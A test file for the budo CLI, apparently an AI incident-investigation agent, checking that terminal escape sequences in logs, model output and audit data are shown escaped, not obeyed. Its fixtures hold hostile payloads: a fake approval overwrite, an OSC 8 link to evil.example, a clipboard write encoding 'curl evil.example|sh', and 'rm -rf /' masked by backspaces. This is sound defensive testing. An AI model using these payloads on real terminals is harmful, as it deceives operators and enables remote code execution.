"""The terminal front end over hostile data: `budo investigate` and `budo runs` as processes
(the replay API, the scripted model on loopback, a real pseudo-terminal for the y/N prompt),
with ANSI/VT escape sequences, carriage returns, backspaces, C1 and bidi controls in the log,
the events, the env, the annotations, the model's words, a tool name and the question.

Whatever a terminal would obey instead of show must come out visibly (ESC as ␛, C1 as \\x9b),
so nothing from outside can clear the screen, move the cursor, overwrite a line, plant an
OSC 8 link or an OSC 52 clipboard write, or fake the approval prompt."""

from __future__ import annotations

import asyncio
import dataclasses
import os
import sqlite3
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest
import yaml

from agent import ModelReply, RunStarted, terminal_safe
from budo.cli import main
from storage import AuditSink, Store
from tests.fixtures.store import MODEL, checkout_typo_events, record_checkout_typo_run
from tests.test_front_ends import budo, state_env

pytestmark = pytest.mark.slow

ESCAPES = [
    "\x1b[2J\x1b[H",                                           # clear the screen, cursor home
    "\x1b[1A\x1b[2K✅ Approved by on-call",                      # up a line, erase it, fake a click
    "\x1b]8;;https://evil.example/\x1b\\runbook\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",               # OSC 52: clipboard write
    "\x1bP+q544e\x1b\\",                                       # DCS (XTGETTCAP)
    "all pods healthy\r  │  Approve nothing? [y/N] ",           # CR: overwrite the line
    "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l   ",         # backspaces
    "\x9b2J\x9d0;pwned\x9c",                                   # C1 CSI, OSC, ST
    "\u202eredro\u202c \u2066x\u2069",                         # bidi override / isolate
    "\x07\x7f\x0b\x0c\x1c\x85\u2028",                          # BEL DEL VT FF FS NEL LS
]
LINE = "ALERT " + " ".join(ESCAPES)
QUESTION = "why is vault-agent failing? " + ESCAPES[0] + ESCAPES[5] + ESCAPES[7]
FORBIDDEN = set("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")


def obeyed(text: str) -> list[str]:
    """Characters a terminal would act on rather than show (newline aside)."""
    return sorted({repr(c) for c in text
                   if c != "\n" and (unicodedata.category(c) == "Cc" or c in FORBIDDEN)})


# The scripted model's turns (not the scenario's `script:`, which allows only real tool names).
SCRIPT: list[dict[str, Any]] = [
    {"say": f"Checking pods. {LINE}", "calls": [
        {"tool": "get_pods", "args": {"namespace": "shop"}}]},
    {"calls": [{"tool": "get_events", "args": {"namespace": "shop",
                                               "involved_object": "vault-agent"}}]},
    {"calls": [{"tool": "describe", "args": {"kind": "deployment", "name": "vault-agent",
                                             "namespace": "shop"}}]},
    {"say": f"The log says {LINE}", "calls": [
        {"tool": "logs", "args": {"namespace": "shop", "pod": "vault-agent", "tail": 100}},
        {"tool": "get_pods\x1b[2J\x9b1A", "args": {"namespace": "shop\x1b]52;c;eA==\x07"}}]},
    {"say": f"Calm the banner down {ESCAPES[1]}", "calls": [
        {"tool": "set_env", "args": {"namespace": "shop", "kind": "deployment",
                                     "name": "vault-agent", "container": "server",
                                     "env_name": "BANNER", "value": "calm"}}]},
    {"answer": f"ROOT CAUSE: vault-agent crashes; its log says {LINE}\n"
               f"EVIDENCE:\n- logs of vault-agent: {LINE}\n"
               f"FIX: restart vault-agent {ESCAPES[2]}\nCONFIDENCE: {ESCAPES[3]} high"},
]


def scenario(path: Path) -> Path:
    doc = {
        "name": "hostile-terminal", "title": "Terminal escapes in every place",
        "extends": "_shop", "namespace": "shop", "now": "2025-03-14T10:30:00Z",
        "question": "why is vault-agent failing?", "expect": {"root_cause": ["vault-agent"]},
        "script": [{"answer": "ROOT CAUSE: vault-agent"}],
        "workloads": [{
            "name": "vault-agent", "image": "registry.example/vault-agent:v1", "ports": [8200],
            "env": {"BANNER": LINE},
            "annotations": {"example.com/banner": LINE},
            "state": "crashloop", "reason": "Error", "exitCode": 1, "restarts": 3,
        }],
        "events": [{"object": "Pod/shop/vault-agent", "type": "Warning", "reason": "Failed",
                    "message": f"{LINE} {i}", "last": f"-{i + 1}m"} for i in range(3)],
        "logs": {"shop/vault-agent/server": {"current": "\n".join([LINE, *ESCAPES]) + "\n"}},
    }
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True))
    return path


async def investigate_on_a_tty(*args: str, env: dict[str, str], answer: bytes
                               ) -> tuple[int, str, str]:
    """`budo investigate` with a pseudo-terminal as stdin (so the y/N prompt is asked and
    ``answer`` typed into it); stdout and stderr captured."""
    master, slave = os.openpty()
    try:
        os.write(master, answer)
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "budo", "investigate", *args, env={**os.environ, **env},
            stdin=slave, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
        out, err = await asyncio.wait_for(proc.communicate(), 90)
    finally:
        os.close(slave)
        os.close(master)
    return proc.returncode or 0, out.decode(), err.decode()


async def test_hostile_text_is_shown_not_obeyed_in_investigate_and_runs(tmp_path, replay,
                                                                         scripted_model):
    cluster = await replay(scenario(tmp_path / "hostile-terminal.yaml"))
    model = await scripted_model([dict(turn) for turn in SCRIPT])
    env = state_env(tmp_path, BUDO_LLM_URL=model.url, KUBECONFIG=str(cluster.kubeconfig))
    code, out, err = await investigate_on_a_tty(QUESTION, "-n", "shop", env=env,
                                                answer=b"n\n")
    assert code == 0, err
    # The hostile data really went through every part of the output...
    prompt = out.split("  │  Approve set env BANNER=calm", 1)[1].split("\n  │  [y/N] ")[0]
    assert "env BANNER: ALERT ␛[2J␛[H ␛[1A␛[2K✅ Approved by on-call" in prompt  # the diff
    assert "Denied by terminal user (denied at the prompt)" in out
    patches = [r for r in cluster.requests if r.method == "PATCH"]
    assert patches and all("dryRun=All" in r.query for r in patches)  # previewed, not applied
    assert out.count("␛[2J") >= 5          # question, thought, tool output, verdict, prompt
    assert "␛]52;c;" in out and "␛]8;;https://evil.example/" in out and "\\x9b2J" in out
    assert "ALERT" in out.split("ROOT CAUSE", 1)[1] and "␍" in out and "␈" in out
    assert "get_pods␛[2J" in out      # the model's own tool name
    # ...and none of it is obeyed.
    assert obeyed(out) == [] and obeyed(err) == []

    code, runs, err = await budo("runs", env=state_env(tmp_path))
    assert code == 0, err
    assert "why is vault-agent failing? ␛[2J" in runs
    assert obeyed(runs) == [] and obeyed(err) == []


def test_audit_verify_shows_what_an_edited_database_names(store_path, capsys) -> None:
    async def record() -> str:
        async with await Store.open(store_path) as store:
            return (await record_checkout_typo_run(store)).id
    run_id = asyncio.run(record())
    with sqlite3.connect(store_path) as conn:  # someone with the file, and an escape in mind
        conn.execute("DROP TRIGGER events_no_update")
        conn.execute("CREATE TRIGGER \"t\x1b]52;c;eA==\x07\" AFTER INSERT ON events BEGIN "
                     "SELECT 1; END")
        conn.execute("UPDATE events SET kind = 'x\x1b[2J' WHERE run_id = ? AND seq = 12",
                     (run_id,))
    assert main(["audit", "verify", run_id, "--db", store_path]) == 1
    out, err = capsys.readouterr()
    assert "BROKEN" in out and "␛[2J" in out and "␛]52;c;eA==␇ was added" in err
    assert obeyed(out + err) == []


async def record_hostile_run(db: str) -> str:
    """The checkout-typo trail with escapes in the question and in the model's words."""
    async with await Store.open(db) as store:
        run = await store.start_run(source="terminal", question=QUESTION, channel=None,
                                    thread_ts=None, requester="U0ONCALL", namespace="shop",
                                    model=MODEL)
        sink = AuditSink(store)
        for event in checkout_typo_events(run.id, run.started_at):
            if isinstance(event, RunStarted):
                event = dataclasses.replace(event, question=QUESTION)
            if isinstance(event, ModelReply):
                event = dataclasses.replace(event, content=f"{event.content}\n{LINE}")
            await sink.emit(event)
        return run.id


def _read_all(fd: int) -> bytes:
    chunks = []
    while True:
        try:
            chunk = os.read(fd, 65536)
        except OSError:   # EIO: the other side closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    return b"".join(chunks)


async def export_to_a_tty(*args: str, env: dict[str, str]) -> tuple[int, str]:
    """`budo export` with a pseudo-terminal as stdout, read while it writes."""
    master, slave = os.openpty()
    try:
        proc = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "budo", "export", *args, env={**os.environ, **env},
            stdin=asyncio.subprocess.DEVNULL, stdout=slave, stderr=asyncio.subprocess.PIPE)
        os.close(slave)
        reading = asyncio.create_task(asyncio.to_thread(_read_all, master))
        _out, err = await asyncio.wait_for(proc.communicate(), 60)
        out = await asyncio.wait_for(reading, 10)
    finally:
        os.close(master)
    assert not err, err
    return proc.returncode or 0, out.decode().replace("\r\n", "\n")  # the tty's ONLCR


@pytest.mark.parametrize("fmt", ["md", "jsonl"])
async def test_export_shows_hostile_text_on_a_terminal_and_keeps_it_exact_elsewhere(
        tmp_path, fmt):
    db = str(tmp_path / "audit.db")
    run_id = await record_hostile_run(db)
    env = state_env(tmp_path)
    code, shown = await export_to_a_tty(run_id, "--format", fmt, "--db", db, env=env)
    assert code == 0
    assert obeyed(shown) == []
    code, piped, err = await budo("export", run_id, "--format", fmt, "--db", db, env=env)
    assert code == 0, err
    written = tmp_path / f"run.{fmt}"
    code, _, err = await budo("export", run_id, "--format", fmt, "--db", db, "-o",
                              str(written), env=env)
    assert code == 0 and err.startswith(f"wrote {written}"), err
    assert piped == written.read_text()            # redirected: what -o writes, byte for byte
    if fmt == "md":
        assert "\x1b[2J" in piped and "␛[2J" in shown and "\\x9b2J" in shown
        assert terminal_safe(piped, newlines=True) == shown


async def test_a_one_line_error_shows_what_it_quotes(tmp_path):
    code, out, err = await budo("runs", "--db", str(tmp_path / "x\x1b]52;c;eA==\x07.db"),
                                env=state_env(tmp_path))
    assert code == 2 and "no audit database at" in err and "␛]52;c;eA==␇.db" in err
    assert obeyed(out + err) == [] and "Traceback" not in err


@pytest.mark.parametrize("text", [*ESCAPES, LINE, "\x00\x01\x1f", "\x80\x9f\x9b"])
def test_terminal_safe_leaves_nothing_a_terminal_would_obey(text: str) -> None:
    assert obeyed(terminal_safe(text)) == []
    kept = terminal_safe(text + "\nnext\r\nline", newlines=True)
    assert obeyed(kept) == [] and kept.endswith("\nnext\nline")


def test_terminal_safe_keeps_ordinary_text() -> None:
    ordinary = "pod web-7d9f ✅ 1/1 ready · café 中文 emoji 🔍 [y/N] ␛ already-visible"
    assert terminal_safe(ordinary) == ordinary
    assert terminal_safe("a\tb") == "a b"
    assert terminal_safe("\x1b[31mred") == "␛[31mred"
    assert terminal_safe("\x9b31m") == "\\x9b31m"
